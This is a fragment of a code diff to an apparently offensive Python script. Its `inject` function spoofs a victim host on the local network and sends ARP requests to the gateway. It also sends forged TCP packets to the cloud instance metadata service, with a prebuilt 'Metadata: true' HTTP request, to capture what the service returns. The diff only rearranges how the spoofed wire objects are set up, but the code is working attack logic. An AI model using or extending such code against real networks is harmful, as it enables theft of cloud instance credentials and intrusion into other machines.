@@ -22,8 +22,9 @@ REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: {IMDS[0]}\r\nMetadata: true\r\n\r\n".en
 
 def inject(victim: str, port: int, seconds: float) -> tuple[bool, str]:
     """Return whether the node told its numbers, and the answer that came to us."""
-    wire, told = Wire(own()[0], victim), False
-    via, end = wire.resolve(gateway(), time.monotonic() + 5), time.monotonic() + seconds
+    mac, mine = own()
+    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 5)
+    told, end = False, time.monotonic() + seconds
     while time.monotonic() < end:
         wire.request_arp(gateway())
         wire.send_tcp(via, IMDS, port, (1, 0), SYN)
